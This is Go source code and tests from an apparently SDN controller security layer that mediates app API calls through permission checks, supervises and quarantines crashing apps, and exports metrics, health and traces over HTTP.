				Match: e.Match, Actions: e.Actions,
				Priority: e.Priority, HasPriority: true,
				FlowOwner: e.Owner, HasFlowOwner: true,
			}
			if set.Allows(call) {
				visible = append(visible, e)
			}
		}
		return visible, nil
	})
}

func (a *shieldedAPI) SendPacketOut(dpid of.DPID, bufferID uint32, inPort uint16, actions []of.Action, pkt *of.Packet) error {
	return a.do(opPacketOut, func(corr uint64) error {
		fromPktIn := pkt == nil && bufferID != 0 && a.shield.kernel.PacketInSeen(dpid, bufferID)
		call := &core.Call{
			App: a.name, Token: core.TokenSendPktOut, Corr: corr, DPID: dpid, HasDPID: true,
			Actions:       actions,
			FromPktIn:     fromPktIn,
			HasProvenance: true,
		}
		if call.Actions == nil {
			call.Actions = []of.Action{}
		}
		if pkt != nil {
			call.Match = of.MatchFromPacket(pkt, inPort)
		}
		if err := a.engine().Check(call); err != nil {
			return err
		}
		return a.shield.kernel.SendPacketOutAs(controller.Origin{App: a.name, Corr: corr}, dpid, bufferID, inPort, actions, pkt)
	})
}

// ---------------------------------------------------------------------------
// Statistics

func (a *shieldedAPI) FlowStats(dpid of.DPID, match *of.Match) ([]of.FlowStatsEntry, error) {
	return apiValue(a, opFlowStats, func(corr uint64) ([]of.FlowStatsEntry, error) {
		call := &core.Call{
			App: a.name, Token: core.TokenReadStatistics, Corr: corr, DPID: dpid, HasDPID: true,
			StatsLevel: of.StatsFlow, Match: match,
		}
		if call.Match == nil {
			call.Match = of.NewMatch()
		}
		if err := a.engine().Check(call); err != nil {
			return nil, err
		}
		if a.virt != nil {
			return a.virt.flowStats(dpid, match)
		}
		rows, err := a.shield.kernel.FlowStats(dpid, match)
		if err != nil {
			return nil, err
		}
		set, _ := a.engine().Permissions(a.name)
		visible := rows[:0]
		for _, row := range rows {
			rowCall := &core.Call{
				App: a.name, Token: core.TokenReadStatistics, DPID: dpid, HasDPID: true,
				StatsLevel: of.StatsFlow, Match: row.Match,
				Priority: row.Priority, HasPriority: true,
			}
			if set.Allows(rowCall) {
				visible = append(visible, row)
			}
		}
		return visible, nil
	})
}

func (a *shieldedAPI) PortStats(dpid of.DPID, port uint16) ([]of.PortStatsEntry, error) {
	return apiValue(a, opPortStats, func(corr uint64) ([]of.PortStatsEntry, error) {
		call := &core.Call{
			App: a.name, Token: core.TokenReadStatistics, Corr: corr, DPID: dpid, HasDPID: true,
			StatsLevel: of.StatsPort,
		}
		if err := a.engine().Check(call); err != nil {
			return nil, err
		}
		if a.virt != nil {
			return a.virt.portStats(dpid, port)
		}
		return a.shield.kernel.PortStats(dpid, port)
	})
}

func (a *shieldedAPI) SwitchStats(dpid of.DPID) (of.SwitchStats, error) {
	return apiValue(a, opSwitchStats, func(corr uint64) (of.SwitchStats, error) {
		call := &core.Call{
			App: a.name, Token: core.TokenReadStatistics, Corr: corr, DPID: dpid, HasDPID: true,
			StatsLevel: of.StatsSwitch,
		}
		if err := a.engine().Check(call); err != nil {
			return of.SwitchStats{}, err
		}
		if a.virt != nil {
			return a.virt.switchStats()
		}
		return a.shield.kernel.SwitchStats(dpid)
	})
}

// ---------------------------------------------------------------------------
// Topology

func (a *shieldedAPI) Switches() ([]topology.SwitchInfo, error) {
	return apiValue(a, opSwitches, func(corr uint64) ([]topology.SwitchInfo, error) {
		all := a.shield.kernel.Topology().Switches()
		ids := make([]of.DPID, len(all))
		for i, s := range all {
			ids[i] = s.DPID
		}
		call := &core.Call{App: a.name, Token: core.TokenVisibleTopology, Corr: corr, Switches: ids}
		if !a.engine().HasToken(a.name, core.TokenVisibleTopology) {
			return nil, a.engine().Check(call)
		}
		if a.virt != nil {
			return a.virt.switches(), nil
		}
		// Filter to the visible subset rather than denying outright.
		set, _ := a.engine().Permissions(a.name)
		visible := all[:0]
		for _, s := range all {
			c := &core.Call{App: a.name, Token: core.TokenVisibleTopology, Switches: []of.DPID{s.DPID}}
			if set.Allows(c) {
				visible = append(visible, s)
			}
		}
		return visible, nil
	})
}

func (a *shieldedAPI) Links() ([]topology.Link, error) {
	return apiValue(a, opLinks, func(corr uint64) ([]topology.Link, error) {
		if !a.engine().HasToken(a.name, core.TokenVisibleTopology) {
			return nil, a.engine().Check(&core.Call{App: a.name, Token: core.TokenVisibleTopology, Corr: corr})
		}
		if a.virt != nil {
			return nil, nil // a single big switch has no internal links
		}
		set, _ := a.engine().Permissions(a.name)
		all := a.shield.kernel.Topology().Links()
		visible := all[:0]
		for _, l := range all {
			c := &core.Call{App: a.name, Token: core.TokenVisibleTopology,
				Switches: []of.DPID{l.A, l.B},
				Links:    []core.LinkID{l.ID()}}
			if set.Allows(c) {
				visible = append(visible, l)
			}
		}
		return visible, nil
	})
}

func (a *shieldedAPI) Hosts() ([]topology.Host, error) {
	return apiValue(a, opHosts, func(corr uint64) ([]topology.Host, error) {
		if !a.engine().HasToken(a.name, core.TokenVisibleTopology) {
			return nil, a.engine().Check(&core.Call{App: a.name, Token: core.TokenVisibleTopology, Corr: corr})
		}
		if a.virt != nil {
			return a.virt.hosts(), nil
		}
		set, _ := a.engine().Permissions(a.name)
		all := a.shield.kernel.Topology().Hosts()
		visible := all[:0]
		for _, h := range all {
			c := &core.Call{App: a.name, Token: core.TokenVisibleTopology, Switches: []of.DPID{h.Switch}}
			if set.Allows(c) {
				visible = append(visible, h)
			}
		}
		return visible, nil
	})
}

func (a *shieldedAPI) AddLink(l topology.Link) error {
	return a.do(opAddLink, func(corr uint64) error {
		call := &core.Call{App: a.name, Token: core.TokenModifyTopology, Corr: corr,
			Switches: []of.DPID{l.A, l.B}, Links: []core.LinkID{l.ID()}}
		if err := a.engine().Check(call); err != nil {
			return err
		}
		return a.shield.kernel.AddLink(l)
	})
}

func (a *shieldedAPI) RemoveLink(x, y of.DPID) error {
	return a.do(opRemoveLink, func(corr uint64) error {
		call := &core.Call{App: a.name, Token: core.TokenModifyTopology, Corr: corr,
			Switches: []of.DPID{x, y}, Links: []core.LinkID{core.NewLinkID(x, y)}}
		if err := a.engine().Check(call); err != nil {
			return err
		}
		a.shield.kernel.RemoveLink(x, y)
		return nil
	})
}

// ---------------------------------------------------------------------------
// Model-driven data store

func (a *shieldedAPI) Publish(path string, value interface{}) error {
	return a.do(opPublish, func(corr uint64) error {
		call := &core.Call{App: a.name, Token: modelTokenFor(path, true), Corr: corr}
		if err := a.engine().Check(call); err != nil {
			return err
		}
		a.shield.kernel.Publish(path, value)
		return nil
	})
}

func (a *shieldedAPI) ReadModel(path string) (interface{}, bool, error) {
	type result struct {
		v  interface{}
		ok bool
	}
	res, err := apiValue(a, opReadModel, func(corr uint64) (result, error) {
		call := &core.Call{App: a.name, Token: modelTokenFor(path, false), Corr: corr}
		if err := a.engine().Check(call); err != nil {
			return result{}, err
		}
		v, ok := a.shield.kernel.ReadModel(path)
		return result{v: v, ok: ok}, nil
	})
	return res.v, res.ok, err
}

// ---------------------------------------------------------------------------
// Host system calls (the SecurityManager role)

func (a *shieldedAPI) HostConnect(ip of.IPv4, port uint16) (*hostsim.Conn, error) {
	return apiValue(a, opHostConnect, func(corr uint64) (*hostsim.Conn, error) {
		call := &core.Call{App: a.name, Token: core.TokenHostNetwork, Corr: corr,
			HostIP: ip, HostPort: port, HasHostIP: true}
		if err := a.engine().Check(call); err != nil {
			return nil, err
		}
		return a.shield.kernel.HostOS().Connect(ip, port)
	})
}

func (a *shieldedAPI) HostReadFile(path string) ([]byte, error) {
	return apiValue(a, opHostReadFile, func(corr uint64) ([]byte, error) {
		call := &core.Call{App: a.name, Token: core.TokenFileSystem, Corr: corr, Path: path}
		if err := a.engine().Check(call); err != nil {
			return nil, err
		}
		return a.shield.kernel.HostOS().ReadFile(path)
	})
}

func (a *shieldedAPI) HostWriteFile(path string, data []byte) error {
	return a.do(opHostWriteFile, func(corr uint64) error {
		call := &core.Call{App: a.name, Token: core.TokenFileSystem, Corr: corr, Path: path}
		if err := a.engine().Check(call); err != nil {
			return err
		}
		a.shield.kernel.HostOS().WriteFile(path, data)
		return nil
	})
}

func (a *shieldedAPI) HostExec(cmd string) error {
	return a.do(opHostExec, func(corr uint64) error {
		call := &core.Call{App: a.name, Token: core.TokenProcessRuntime, Corr: corr}
		if err := a.engine().Check(call); err != nil {
			return err
		}
		a.shield.kernel.HostOS().Exec(cmd)
		return nil
	})
}

// ---------------------------------------------------------------------------
// Events and utilities

func (a *shieldedAPI) Subscribe(kind controller.EventKind, fn controller.Handler) error {
	return a.container.subscribe(kind, fn)
}

func (a *shieldedAPI) HasPermission(token core.Token) bool {
	return a.engine().HasToken(a.name, token)
}

func (a *shieldedAPI) Transaction() *Tx {
	return &Tx{api: a}
}
