package isolation

import (
	"errors"
	"fmt"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
)

// auditApp records a container lifecycle transition in the forensic
// journal and, when the flight recorder is on, as a supervisor frame.
// Lifecycle events have no originating mediated call, so they carry no
// correlation ID.
func auditApp(app string, v audit.Verdict, detail string) {
	if recorder.On() {
		code := recorder.CodeOK
		switch v {
		case audit.VerdictPanic:
			code = recorder.CodePanic
		case audit.VerdictRestart:
			code = recorder.CodeRestart
		case audit.VerdictQuarantine:
			code = recorder.CodeQuarantine
		}
		recorder.Record(recorder.Frame{TS: time.Now().UnixNano(),
			Kind: recorder.KindSupervisor, Code: code, App: recorder.Intern(app)})
	}
	if !audit.On() {
		return
	}
	audit.Emit(audit.Event{Kind: audit.KindApp, Verdict: v, App: app, Detail: detail})
}

// Health is a container's lifecycle state as seen by the supervisor.
type Health int32

// Container health states.
const (
	// Running: the app initialized and its handlers receive events.
	Running Health = iota
	// Restarting: the app panicked and the supervisor is re-initializing
	// it after a backoff. Events arriving meanwhile are discarded.
	Restarting
	// Quarantined: the app exceeded PanicLimit panics within PanicWindow
	// and has been permanently unhooked. Its mediated API handle is dead
	// (ErrAppQuarantined) and queued events drain without delivery; the
	// rest of the shield keeps serving healthy apps.
	Quarantined
	// Stopped: the container was shut down.
	Stopped
)

// String names the health state.
func (h Health) String() string {
	switch h {
	case Running:
		return "running"
	case Restarting:
		return "restarting"
	case Quarantined:
		return "quarantined"
	case Stopped:
		return "stopped"
	default:
		return "health(?)"
	}
}

// ErrAppQuarantined reports mediated API use by a quarantined app.
var ErrAppQuarantined = errors.New("isolation: app quarantined")

// Health returns the container's current lifecycle state.
func (c *Container) Health() Health { return Health(c.health.Load()) }

// Restarts reports how many times the supervisor re-initialized the app.
func (c *Container) Restarts() uint64 { return c.restarts.Load() }

// AppHealth reports a launched app's lifecycle state.
func (s *Shield) AppHealth(name string) (Health, bool) {
	c, ok := s.Container(name)
	if !ok {
		return Stopped, false
	}
	return c.Health(), true
}

// onPanic is called by an event worker whose delivery panicked. Exactly
// one worker wins the Running→Restarting transition and supervises; the
// rest resume draining (and discarding, while not Running) the queue.
func (c *Container) onPanic() {
	if !c.health.CompareAndSwap(int32(Running), int32(Restarting)) {
		return
	}
	c.supervise()
}

// supervise runs the restart loop: record the strike, quarantine past
// the panic budget, otherwise unhook everything, back off and re-run the
// app's Init so it can rebuild its subscriptions from scratch.
func (c *Container) supervise() {
	cfg := &c.shield.cfg
	for {
		if c.recordStrike() {
			c.supMu.Lock()
			c.quarReason = fmt.Sprintf("%d panics within %v (limit %d)",
				len(c.panicTimes), cfg.PanicWindow, cfg.PanicLimit)
			reason := c.quarReason
			c.supMu.Unlock()
			c.health.Store(int32(Quarantined))
			c.metrics.quarantines.Inc()
			auditApp(c.name, audit.VerdictQuarantine, reason)
			c.unhookAll()
			recorder.Capture(recorder.TriggerQuarantine, c.name, 0, reason)
			return
		}
		c.unhookAll()
		select {
		case <-time.After(c.restartBackoff()):
		case <-c.stop:
			c.health.Store(int32(Stopped))
			return
		}
		c.restarts.Add(1)
		c.metrics.restarts.Inc()
		auditApp(c.name, audit.VerdictRestart,
			fmt.Sprintf("restart %d after backoff", c.restarts.Load()))
		err := c.safeInit(c.app, c.api)
		select {
		case <-c.stop:
			c.health.Store(int32(Stopped))
			return
		default:
		}
		if err == nil {
			c.resetStreak()
			c.health.Store(int32(Running))
			return
		}
		// Re-init failed (or panicked again): that is another strike.
	}
}

// recordStrike appends a panic to the sliding window and reports whether
// the container crossed its quarantine threshold.
func (c *Container) recordStrike() bool {
	cfg := &c.shield.cfg
	c.supMu.Lock()
	defer c.supMu.Unlock()
	now := time.Now()
	cutoff := now.Add(-cfg.PanicWindow)
	keep := c.panicTimes[:0]
	for _, t := range c.panicTimes {
		if t.After(cutoff) {
			keep = append(keep, t)
		}
	}
	c.panicTimes = append(keep, now)
	c.streak++
	return len(c.panicTimes) >= cfg.PanicLimit
}

func (c *Container) resetStreak() {
	c.supMu.Lock()
	c.streak = 0
	c.supMu.Unlock()
}

// restartBackoff doubles with the current failure streak, capped so the
// shift cannot overflow.
func (c *Container) restartBackoff() time.Duration {
	c.supMu.Lock()
	streak := c.streak
	c.supMu.Unlock()
	shift := streak - 1
	if shift < 0 {
		shift = 0
	}
	if shift > 16 {
		shift = 16
	}
	return c.shield.cfg.RestartBackoff << shift
}

// unhookAll tears down the container's kernel subscriptions and handler
// table. After it returns no new events reach the queue; a subsequent
// re-init rebuilds both via api.Subscribe.
func (c *Container) unhookAll() {
	c.hmu.Lock()
	defer c.hmu.Unlock()
	for kind, id := range c.kernels {
		c.shield.kernel.Unsubscribe(kind, id)
	}
	c.kernels = make(map[controller.EventKind]int)
	c.handlers = make(map[controller.EventKind][]controller.Handler)
}
