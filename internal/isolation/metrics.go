package isolation

import (
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/recorder"
)

// Isolation-layer instrumentation: the KSD boundary (the inter-goroutine
// hop whose cost the paper's end-to-end figures measure) and per-app
// lifecycle counters.
var (
	mKSDHopSeconds = obs.Default().Histogram("sdnshield_ksd_hop_seconds",
		"Time a mediated call waits between enqueue and pickup by a Kernel Service Deputy.")
	mKSDQueueDepth = obs.Default().Gauge("sdnshield_ksd_queue_depth",
		"Mediated calls waiting in the KSD request channel (sampled at enqueue).")
	mQuarantinedCalls = obs.Default().Counter("sdnshield_ksd_quarantined_calls_total",
		"Mediated calls rejected because the app is quarantined.")

	// mediatedSampler picks the 1-in-N mediated calls whose latency is
	// measured; trace sampling further decimates the sampled subset.
	mediatedSampler obs.Sampler
)

const mediatedCallHelp = "End-to-end mediated API call latency: queue wait, permission check and kernel execution."

// mediatedOp is one mediated API operation's precomputed hot-path
// state: its name, its per-op latency histogram and its interned
// flight-recorder symbol. The API wrappers in context.go reference
// package-level descriptors, so neither the deputy's post-reply frame
// append nor the caller's latency observation does a map lookup.
type mediatedOp struct {
	name string
	hist *obs.Histogram
	sym  recorder.Sym
}

// newMediatedOp resolves an op's histogram and symbol once. Package
// init builds the descriptor for every mediated API operation; tests
// may mint ad-hoc ops the same way.
func newMediatedOp(name string) *mediatedOp {
	return &mediatedOp{
		name: name,
		hist: obs.Default().Histogram("sdnshield_mediated_call_seconds", mediatedCallHelp, "op", name),
		sym:  recorder.Intern(name),
	}
}

// Per-op descriptors for the mediated API surface.
var (
	opInsertFlow    = newMediatedOp("insert_flow")
	opModifyFlow    = newMediatedOp("modify_flow")
	opDeleteFlow    = newMediatedOp("delete_flow")
	opFlows         = newMediatedOp("flows")
	opPacketOut     = newMediatedOp("packet_out")
	opFlowStats     = newMediatedOp("flow_stats")
	opPortStats     = newMediatedOp("port_stats")
	opSwitchStats   = newMediatedOp("switch_stats")
	opSwitches      = newMediatedOp("switches")
	opLinks         = newMediatedOp("links")
	opHosts         = newMediatedOp("hosts")
	opAddLink       = newMediatedOp("add_link")
	opRemoveLink    = newMediatedOp("remove_link")
	opPublish       = newMediatedOp("publish")
	opReadModel     = newMediatedOp("read_model")
	opHostConnect   = newMediatedOp("host_connect")
	opHostReadFile  = newMediatedOp("host_read_file")
	opHostWriteFile = newMediatedOp("host_write_file")
	opHostExec      = newMediatedOp("host_exec")
)

// appCounters is the set of per-container lifecycle counters, created
// once per app name at Launch and cached on the container.
type appCounters struct {
	panics      *obs.Counter
	restarts    *obs.Counter
	quarantines *obs.Counter
	dropped     *obs.Counter
}

// registerAppGauges publishes a launched container's resource
// accounting as pull-at-scrape gauges. Relaunching a name rebinds the
// series to the new container.
func registerAppGauges(c *Container) {
	reg := obs.Default()
	reg.GaugeFunc("sdnshield_app_cpu_seconds_total",
		"Cumulative mediated-call execution time charged to the app, by app.",
		func() float64 { return float64(c.res.cpuNanos.Load()) / 1e9 }, "app", c.name)
	reg.GaugeFunc("sdnshield_app_ksd_wait_seconds_total",
		"Cumulative KSD queue residency of the app's mediated calls, by app.",
		func() float64 { return float64(c.res.waitNanos.Load()) / 1e9 }, "app", c.name)
	reg.GaugeFunc("sdnshield_app_alloc_bytes_estimate",
		"Sampled estimate of heap bytes allocated during the app's mediated calls, by app.",
		func() float64 { return float64(c.res.allocBytes.Load()) }, "app", c.name)
	reg.GaugeFunc("sdnshield_app_goroutines",
		"Container-owned goroutines plus mediated calls in flight, by app.",
		func() float64 { return float64(c.res.goroutines.Load()) }, "app", c.name)
	reg.GaugeFunc("sdnshield_app_mediated_calls_total",
		"Mediated API calls issued by the app, by app.",
		func() float64 { return float64(c.res.calls.Load()) }, "app", c.name)
	reg.GaugeFunc("sdnshield_app_quota_breaches_total",
		"Soft resource-quota breaches detected by the sweep, by app.",
		func() float64 { return float64(c.res.breaches.Load()) }, "app", c.name)
}

func newAppCounters(app string) appCounters {
	reg := obs.Default()
	return appCounters{
		panics: reg.Counter("sdnshield_app_panics_total",
			"Panics absorbed from app init and event handlers, by app.", "app", app),
		restarts: reg.Counter("sdnshield_app_restarts_total",
			"Supervisor re-initializations, by app.", "app", app),
		quarantines: reg.Counter("sdnshield_app_quarantines_total",
			"Apps quarantined after exceeding the panic budget, by app.", "app", app),
		dropped: reg.Counter("sdnshield_app_dropped_events_total",
			"Events dropped instead of delivered (queue overflow or unhealthy container), by app.", "app", app),
	}
}
