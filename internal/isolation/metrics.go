package isolation

import "sdnshield/internal/obs"

// Isolation-layer instrumentation: the KSD boundary (the inter-goroutine
// hop whose cost the paper's end-to-end figures measure) and per-app
// lifecycle counters.
var (
	mKSDHopSeconds = obs.Default().Histogram("sdnshield_ksd_hop_seconds",
		"Time a mediated call waits between enqueue and pickup by a Kernel Service Deputy.")
	mKSDQueueDepth = obs.Default().Gauge("sdnshield_ksd_queue_depth",
		"Mediated calls waiting in the KSD request channel (sampled at enqueue).")
	mQuarantinedCalls = obs.Default().Counter("sdnshield_ksd_quarantined_calls_total",
		"Mediated calls rejected because the app is quarantined.")

	// mediatedSampler picks the 1-in-N mediated calls whose latency is
	// measured; trace sampling further decimates the sampled subset.
	mediatedSampler obs.Sampler
)

// mediatedOps enumerates every mediated API operation so the per-op
// latency histograms exist before the first call and the hot path reads a
// prebuilt map instead of taking the registry lock.
var mediatedOps = []string{
	"insert_flow", "modify_flow", "delete_flow", "flows",
	"packet_out",
	"flow_stats", "port_stats", "switch_stats",
	"switches", "links", "hosts", "add_link", "remove_link",
	"publish", "read_model",
	"host_connect", "host_read_file", "host_write_file", "host_exec",
}

const mediatedCallHelp = "End-to-end mediated API call latency: queue wait, permission check and kernel execution."

// mMediatedCall maps op → latency histogram; read-only after init.
var mMediatedCall = func() map[string]*obs.Histogram {
	m := make(map[string]*obs.Histogram, len(mediatedOps))
	for _, op := range mediatedOps {
		m[op] = obs.Default().Histogram("sdnshield_mediated_call_seconds", mediatedCallHelp, "op", op)
	}
	return m
}()

// mediatedHist resolves the per-op histogram, falling back to the
// registry for ops outside the prebuilt set.
func mediatedHist(op string) *obs.Histogram {
	if h, ok := mMediatedCall[op]; ok {
		return h
	}
	return obs.Default().Histogram("sdnshield_mediated_call_seconds", mediatedCallHelp, "op", op)
}

// appCounters is the set of per-container lifecycle counters, created
// once per app name at Launch and cached on the container.
type appCounters struct {
	panics      *obs.Counter
	restarts    *obs.Counter
	quarantines *obs.Counter
	dropped     *obs.Counter
}

func newAppCounters(app string) appCounters {
	reg := obs.Default()
	return appCounters{
		panics: reg.Counter("sdnshield_app_panics_total",
			"Panics absorbed from app init and event handlers, by app.", "app", app),
		restarts: reg.Counter("sdnshield_app_restarts_total",
			"Supervisor re-initializations, by app.", "app", app),
		quarantines: reg.Counter("sdnshield_app_quarantines_total",
			"Apps quarantined after exceeding the panic budget, by app.", "app", app),
		dropped: reg.Counter("sdnshield_app_dropped_events_total",
			"Events dropped instead of delivered (queue overflow or unhealthy container), by app.", "app", app),
	}
}
