package obs

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// newTestServer builds a handler over a private registry/tracer so the
// assertions do not depend on whatever the process-wide defaults have
// accumulated.
func newTestServer(t *testing.T) (*httptest.Server, *Registry) {
	t.Helper()
	reg := NewRegistry()
	srv := httptest.NewServer(NewHandler(reg, NewTracer(16, 1)))
	t.Cleanup(srv.Close)
	return srv, reg
}

func get(t *testing.T, url string) *http.Response {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

func body(t *testing.T, resp *http.Response) string {
	t.Helper()
	var sb strings.Builder
	buf := make([]byte, 4096)
	for {
		n, err := resp.Body.Read(buf)
		sb.Write(buf[:n])
		if err != nil {
			return sb.String()
		}
	}
}

// TestServerIndex pins the index page: 200 with the route listing on "/",
// 404 on anything unrouted.
func TestServerIndex(t *testing.T) {
	srv, _ := newTestServer(t)
	resp := get(t, srv.URL+"/")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET / status = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/plain; charset=utf-8" {
		t.Errorf("index Content-Type = %q", ct)
	}
	idx := body(t, resp)
	for _, route := range []string{"/metrics", "/metrics.json", "/health", "/traces", "/debug/pprof/"} {
		if !strings.Contains(idx, route) {
			t.Errorf("index missing route %s", route)
		}
	}
	if resp := get(t, srv.URL+"/no-such-route"); resp.StatusCode != http.StatusNotFound {
		t.Errorf("GET /no-such-route status = %d, want 404", resp.StatusCode)
	}
}

// TestServerMetricsContentTypes asserts the two metrics views: Prometheus
// text exposition format 0.0.4 versus a JSON snapshot, both carrying a
// counter registered beforehand.
func TestServerMetricsContentTypes(t *testing.T) {
	srv, reg := newTestServer(t)
	reg.Counter("sdnshield_server_test_total", "Test counter.").Add(3)

	resp := get(t, srv.URL+"/metrics")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /metrics status = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/plain; version=0.0.4; charset=utf-8" {
		t.Errorf("/metrics Content-Type = %q, want Prometheus text 0.0.4", ct)
	}
	text := body(t, resp)
	if !strings.Contains(text, "sdnshield_server_test_total 3") {
		t.Errorf("/metrics missing counter sample:\n%s", text)
	}

	resp = get(t, srv.URL+"/metrics.json")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /metrics.json status = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("/metrics.json Content-Type = %q", ct)
	}
	var series []SeriesSnapshot
	if err := json.Unmarshal([]byte(body(t, resp)), &series); err != nil {
		t.Fatalf("/metrics.json is not valid JSON: %v", err)
	}
	found := false
	for _, s := range series {
		if s.Name == "sdnshield_server_test_total" && s.Value == 3 {
			found = true
		}
	}
	if !found {
		t.Errorf("/metrics.json missing the registered counter: %+v", series)
	}
}

// TestServerHealthReflectsQuarantine registers a health provider shaped
// like a shield snapshot with one quarantined app and asserts /health
// surfaces it (and stops doing so after unregistering).
func TestServerHealthReflectsQuarantine(t *testing.T) {
	srv, _ := newTestServer(t)
	type appHealth struct {
		App              string `json:"app"`
		State            string `json:"state"`
		QuarantineReason string `json:"quarantine_reason,omitempty"`
	}
	unregister := RegisterHealth("server-test-shield", func() interface{} {
		return map[string]interface{}{
			"apps": []appHealth{{
				App:              "crashy",
				State:            "quarantined",
				QuarantineReason: "5 panics within 30s (limit 5)",
			}},
		}
	})
	defer unregister()

	resp := get(t, srv.URL+"/health")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /health status = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("/health Content-Type = %q", ct)
	}
	var health map[string]struct {
		Apps []appHealth `json:"apps"`
	}
	if err := json.Unmarshal([]byte(body(t, resp)), &health); err != nil {
		t.Fatalf("/health is not valid JSON: %v", err)
	}
	shield, ok := health["server-test-shield"]
	if !ok {
		t.Fatalf("/health missing registered provider: %v", health)
	}
	if len(shield.Apps) != 1 || shield.Apps[0].App != "crashy" ||
		shield.Apps[0].State != "quarantined" || shield.Apps[0].QuarantineReason == "" {
		t.Errorf("/health does not reflect the quarantined app: %+v", shield.Apps)
	}

	unregister()
	resp = get(t, srv.URL+"/health")
	var after map[string]json.RawMessage
	if err := json.Unmarshal([]byte(body(t, resp)), &after); err != nil {
		t.Fatalf("/health after unregister: %v", err)
	}
	if _, still := after["server-test-shield"]; still {
		t.Error("/health still lists the provider after unregister")
	}
}

// TestServerTraces asserts /traces serves a JSON array even when empty.
func TestServerTraces(t *testing.T) {
	srv, _ := newTestServer(t)
	resp := get(t, srv.URL+"/traces")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /traces status = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("/traces Content-Type = %q", ct)
	}
	var traces []TraceSnapshot
	if err := json.Unmarshal([]byte(body(t, resp)), &traces); err != nil {
		t.Fatalf("/traces is not valid JSON array: %v", err)
	}
}

// TestServerExtensionRoutes asserts routes registered via RegisterHandler
// (the hook obs/audit mounts /audit through) are served and listed on the
// index of handlers built afterwards.
func TestServerExtensionRoutes(t *testing.T) {
	RegisterHandler("/server-test-ext", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusTeapot)
	}))
	srv, _ := newTestServer(t)
	if resp := get(t, srv.URL+"/server-test-ext"); resp.StatusCode != http.StatusTeapot {
		t.Errorf("extension route status = %d, want %d", resp.StatusCode, http.StatusTeapot)
	}
	if idx := body(t, get(t, srv.URL+"/")); !strings.Contains(idx, "/server-test-ext") {
		t.Error("index does not list the extension route")
	}
}
