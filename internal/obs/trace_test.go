package obs

import (
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestTracerSamplingAndRing(t *testing.T) {
	tr := NewTracer(4, 2) // every 2nd call, retain 4
	var sampled int
	for i := 0; i < 12; i++ {
		if s := tr.Start("op"); s != nil {
			sampled++
			s.StartSpan("stage").End()
			s.Finish()
		}
	}
	if sampled != 6 {
		t.Fatalf("sampled = %d, want 6", sampled)
	}
	recent := tr.Recent()
	if len(recent) != 4 {
		t.Fatalf("ring retained %d, want 4", len(recent))
	}
	// Newest first, ids strictly decreasing.
	for i := 1; i < len(recent); i++ {
		if recent[i-1].Start.Before(recent[i].Start) {
			t.Fatalf("traces not newest-first: %v", recent)
		}
	}
	if len(recent[0].Spans) != 1 || recent[0].Spans[0].Name != "stage" {
		t.Fatalf("spans = %+v", recent[0].Spans)
	}
}

func TestNilTraceIsSafe(t *testing.T) {
	var tr *Trace
	sp := tr.StartSpan("x")
	sp.End()
	tr.AddSpan("y", time.Now(), time.Millisecond)
	tr.Finish()
	var tc *Tracer
	if tc.Start("op") != nil {
		t.Fatal("nil tracer sampled")
	}
	if tc.Recent() != nil {
		t.Fatal("nil tracer returned traces")
	}
}

func TestTraceSpanTiming(t *testing.T) {
	tr := NewTracer(1, 1).Start("insert_flow")
	sp := tr.StartSpan("exec")
	time.Sleep(2 * time.Millisecond)
	sp.End()
	tr.Finish()
	snap := tr.snapshot()
	if snap.Duration < 2*time.Millisecond {
		t.Fatalf("trace duration = %v, want >= 2ms", snap.Duration)
	}
	if len(snap.Spans) != 1 || snap.Spans[0].Duration < 2*time.Millisecond {
		t.Fatalf("span = %+v", snap.Spans)
	}
}

func TestServerEndpoints(t *testing.T) {
	reg := NewRegistry()
	reg.Counter("sdnshield_demo_total", "Demo.").Add(42)
	tracer := NewTracer(8, 1)
	s := tracer.Start("demo")
	s.Finish()
	unreg := RegisterHealth("test-shield", func() interface{} {
		return map[string]string{"state": "running"}
	})
	defer unreg()

	h := NewHandler(reg, tracer)
	get := func(path string) string {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
		if rec.Code != 200 {
			t.Fatalf("GET %s = %d", path, rec.Code)
		}
		return rec.Body.String()
	}
	if body := get("/metrics"); !strings.Contains(body, "sdnshield_demo_total 42") {
		t.Errorf("/metrics missing counter:\n%s", body)
	}
	if body := get("/metrics.json"); !strings.Contains(body, `"sdnshield_demo_total"`) {
		t.Errorf("/metrics.json missing counter:\n%s", body)
	}
	if body := get("/health"); !strings.Contains(body, `"test-shield"`) || !strings.Contains(body, `"running"`) {
		t.Errorf("/health missing provider:\n%s", body)
	}
	if body := get("/traces"); !strings.Contains(body, `"demo"`) {
		t.Errorf("/traces missing trace:\n%s", body)
	}
	if body := get("/"); !strings.Contains(body, "/debug/pprof/") {
		t.Errorf("index missing pprof route:\n%s", body)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/pprof/", nil))
	if rec.Code != 200 {
		t.Errorf("pprof index = %d", rec.Code)
	}
}

func TestServeListensAndCloses(t *testing.T) {
	s, err := Serve("127.0.0.1:0", NewRegistry(), NewTracer(1, 1))
	if err != nil {
		t.Fatal(err)
	}
	if s.Addr() == "" {
		t.Fatal("no bound address")
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
}

